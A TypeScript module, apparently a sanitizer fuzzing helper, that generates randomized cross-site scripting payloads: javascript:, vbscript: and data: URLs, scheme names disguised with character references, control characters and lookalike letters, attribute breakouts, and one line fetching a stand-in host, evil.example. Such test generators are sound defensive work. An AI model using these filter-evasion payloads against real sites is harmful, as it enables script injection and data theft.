import type { Random } from './seeded-random.ts';

/** Creates a script that calls `hit(n)`, in one of many forms. */
export function scriptPayload(random: Random, number: number): string {
  return random.of<(call: string) => string>([
    (call) => call,
    (call) => call,
    (call) => `window.${call}`,
    (call) => `top.${call}`,
    () => `parent['hit'](${number})`,
    () => `hit.call(this,${number})`,
    () => `[${number}].map(hit)`,
    (call) => `eval('${call}')`,
    (call) => `alert(${call})`,
    (call) => `setTimeout(()=>${call})`,
    (call) => `/*x*/${call}//`,
    () => `hit&lpar;${number}&rpar;`,
    () => `&#104;it(${number})`,
    () => `\\u0068it(${number})`,
    () => `fetch('https://evil.example/${number}');hit(${number})`,
  ])(`hit(${number})`);
}

/** Creates an address that runs or loads something, plain or obfuscated. */
export function addressPayload(random: Random, number: number): string {
  const script = scriptPayload(random, number);
  return random.of<() => string>([
    () => `${scheme(random, 'javascript')}${script}`,
    () => `${scheme(random, 'javascript')}${script}`,
    () => `${scheme(random, 'javascript')}//a.example/%0a${script}`,
    () => `${scheme(random, 'javascript')}'<script>${script}</script>'`,
    () => `${scheme(random, 'vbscript')}MsgBox(${number})`,
    () => `${scheme(random, 'data')}text/html,<script>${script}</script>`,
    () =>
      `${scheme(random, 'data')}text/html;base64,${btoa(`<script>parent.hit(${number})</script>`)}`,
    () =>
      `${scheme(random, 'data')}image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script}'/>`,
    () =>
      `${random.of(['feed', 'view-source', 'jar', 'https', 'blob', 'filesystem'])}:javascript:${script}`,
    () => `${random.of(['//', '\\\\', '/\\', 'https:///', 'http:\\\\'])}evil.example/${number}`,
    () => `https://a.example@evil.example/${number}" onclick="${script}`,
    () => `#${random.of(['"', "'", '><'])} onclick=${script}`,
  ])();
}

/** Spells a scheme and its colon: plain, with character references, escaped, or split by characters that browsers ignore. */
function scheme(random: Random, name: string): string {
  const disguise = random.of<(letter: string) => string>([
    (letter) => letter,
    (letter) => (random.below(2) === 0 ? letter : letter.toUpperCase()),
    (letter) => (random.below(2) === 0 ? letter : reference(random, letter)),
    (letter) => (random.below(4) === 0 ? `${letter}${random.of(ignored)}` : letter),
    (letter) => (random.below(4) === 0 ? `%${hex(letter)}` : letter),
    (letter) => (random.below(6) === 0 ? `\\${letter}` : letter),
    (letter) => (random.below(6) === 0 ? random.of(lookalikes) : letter),
  ]);
  const lead = random.below(3) === 0 ? random.of([...ignored, ' ', '&#1;', '&#32;', '\u00a0']) : '';
  const colon = random.of([':', ':', ':', '&colon;', '&#58;', '&#x3a;', '%3A', '\t:', '：']);
  return `${lead}${Array.from(name, disguise).join('')}${colon}`;
}

/** Control characters and newlines that browsers ignore in addresses, and invisible characters. */
const ignored = [
  '\t',
  '&#9;',
  '&#10;',
  '&Tab;',
  '&NewLine;',
  '&#x0D;',
  '\u0001',
  '\u200b',
  '\u00ad',
  '\u2028',
  '\u0000',
  '<!---->',
];
const lookalikes = ['ѕ', 'ａ', 'ſ', 'ı', '𝒿'];

function reference(random: Random, letter: string): string {
  const zeros = '0'.repeat(random.below(5));
  const end = random.of([';', ';', '']);
  return random.below(2) === 0
    ? `&#${zeros}${letter.charCodeAt(0)}${end}`
    : `&#${random.of(['x', 'X'])}${zeros}${hex(letter)}${end}`;
}

function hex(letter: string): string {
  return letter.charCodeAt(0).toString(16);
}
